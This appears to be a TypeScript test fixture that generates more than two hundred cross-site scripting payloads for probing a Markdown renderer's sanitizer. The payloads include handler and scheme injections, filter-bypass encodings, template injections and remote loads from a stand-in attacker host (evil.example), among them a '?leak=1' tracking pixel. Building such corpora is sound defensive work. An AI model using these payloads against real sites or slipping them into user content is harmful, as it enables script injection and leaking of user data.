/** Text that tries to become more than text: tags, handlers and addresses in the places where Markdown has them. */
const scripts = ["alert(1)", "alert`1`", "window.hit=1", "parent.hit=1", "eval('window.hit=1')"];
const handlers = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter"];
const tags = ["img src=x", "svg", "body", "iframe", "details open", "video src=x", "input autofocus", "a href=x", "math", "marquee"];
const schemes = ["javascript:", "JAVASCRIPT:", "java\tscript:", "java&#x0A;script:", "javascript&colon;", "&#106;avascript:", "\u0001javascript:", "vbscript:", "data:text/html;base64,", "data:text/html,", "file:///", "blob:https://a/"];

const raw = tags.flatMap((tag, i) => handlers.map((handler, j) => `<${tag} ${handler}="${scripts[(i + j) % scripts.length]}">x`));
const links = schemes.flatMap((scheme) => [
  `[x](${scheme}window.hit=1)`,
  `[x](<${scheme}window.hit=1>)`,
  `![x](${scheme}window.hit=1)`,
  `<${scheme}window.hit=1>`,
  `[x][r]\n\n[r]: ${scheme}window.hit=1`,
  `<a href="${scheme}window.hit=1">x</a>`,
]);
const odd = [
  "<script>window.hit=1</script>",
  "<scr<script>ipt>window.hit=1</scr</script>ipt>",
  "<!--><script>window.hit=1</script>-->",
  "<![CDATA[<script>window.hit=1</script>]]>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<object data=javascript:window.hit=1></object>",
  "<embed src=javascript:window.hit=1>",
  "<form action=javascript:window.hit=1><button>x</button></form>",
  "<svg><script>window.hit=1</script></svg>",
  "<svg><animate onbegin=window.hit=1 attributeName=x></svg>",
  "<template><script>window.hit=1</script></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
  "<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>",
  "```html\n<script>window.hit=1</script>\n```",
  "```\"><script>window.hit=1</script>\nx\n```",
  "`<img src=x onerror=window.hit=1>`",
  "| <script>window.hit=1</script> | b |\n|---|---|\n| <img src=x onerror=window.hit=1> | d |",
  "> <script>window.hit=1</script>",
  "- <img src=x onerror=window.hit=1>",
  "# <svg onload=window.hit=1>",
  "**<img src=x onerror=window.hit=1>**",
  "[<img src=x onerror=window.hit=1>](https://a.example)",
  "![\"onerror=\"window.hit=1](https://a.example/x.png)",
  "![x](https://evil.example/pixel.png?leak=1)",
  "[x](https://a.example \"onmouseover=window.hit=1\")",
  "[x](https://a.example/\" onclick=\"window.hit=1)",
  "&lt;script&gt;window.hit=1&lt;/script&gt;",
  "&#60;img src=x onerror=window.hit=1&#62;",
  "<x onclick=window.hit=1 style=position:fixed;inset:0>x</x>",
  "<a href=\"https://a.example\" target=_top ping=https://evil.example>x</a>",
  "<img srcset=https://evil.example/x.png>",
  "<picture><source srcset=https://evil.example/x></picture>",
  "<audio src=https://evil.example/x autoplay>",
  "<input type=image src=https://evil.example/x>",
  "<table background=https://evil.example/x>",
  "<div style=\"background:url(https://evil.example/x)\">",
  "- [x](javascript:window.hit=1)\n- [ ] <script>window.hit=1</script>",
  "{@html '<script>window.hit=1</script>'}",
  "${window.hit=1}{{constructor.constructor('window.hit=1')()}}",
  "\u202e<script>window.hit=1</script>",
  "<\u0000script>window.hit=1</script>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
  "https://a.example/<script>window.hit=1</script>",
  "www.a.example/javascript:window.hit=1",
  "a@b.example\"onclick=window.hit=1",
];

/** More than two hundred of them. */
export const payloads: string[] = [...raw, ...links, ...odd];
